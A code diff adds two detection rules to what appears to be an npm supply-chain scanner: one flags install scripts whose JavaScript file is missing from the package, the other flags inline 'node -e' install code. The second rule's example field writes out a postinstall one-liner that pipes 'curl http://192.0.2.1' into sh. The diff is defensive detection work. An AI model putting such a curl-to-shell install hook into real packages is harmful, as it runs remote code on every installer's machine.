@@ -81,7 +81,41 @@ export const BIN_SHADOW: RuleMeta = {
   references: ['https://blog.npmjs.org/post/189618601100/binary-planting-with-the-npm-cli'],
 };
 
+export const MISSING_INSTALL_FILE: RuleMeta = {
+  ...npm,
+  id: 'NPM-006',
+  name: 'install-script-missing-file',
+  category: 'install-script',
+  severity: 'medium',
+  confidence: 'medium',
+  description:
+    'An install lifecycle script runs a JavaScript file that the published package does not contain.',
+  rationale:
+    'npm would fail to install a package whose install script is missing, so honest packages never publish one; attackers do when the payload is deleted after running, fetched later, or the registry already removed it. The script still runs on every install that has the file.',
+  falsePositives: 'Broken releases; `prepare` scripts that only run in git checkouts are not flagged.',
+  example: '"preinstall": "node index.js" with no index.js in the tarball',
+  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts'],
+};
+
+export const INLINE_SCRIPT_CODE: RuleMeta = {
+  ...npm,
+  id: 'NPM-007',
+  name: 'install-script-inline-code',
+  category: 'execution',
+  severity: 'info',
+  confidence: 'high',
+  description:
+    'An install script runs inline JavaScript (`node -e "..."`); the code is analysed with the JavaScript rules and their findings point at package.json.',
+  rationale:
+    'Inline code in package.json is easy to miss in review; droppers put `require("child_process").exec(...)` or an eval of a base64 string there.',
+  falsePositives: 'Version checks and `try{require("./postinstall")}catch(e){}` wrappers (informational).',
+  example: '"postinstall": "node -e \\"require(\'child_process\').exec(\'curl http://192.0.2.1|sh\')\\""',
+  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts'],
+};
+
 export const NPM_MANIFEST_RULES: RuleMeta[] = [
+  MISSING_INSTALL_FILE,
+  INLINE_SCRIPT_CODE,
   INSTALL_SCRIPT,
   SCRIPT_TECHNIQUE,
   GYP_COMMAND,
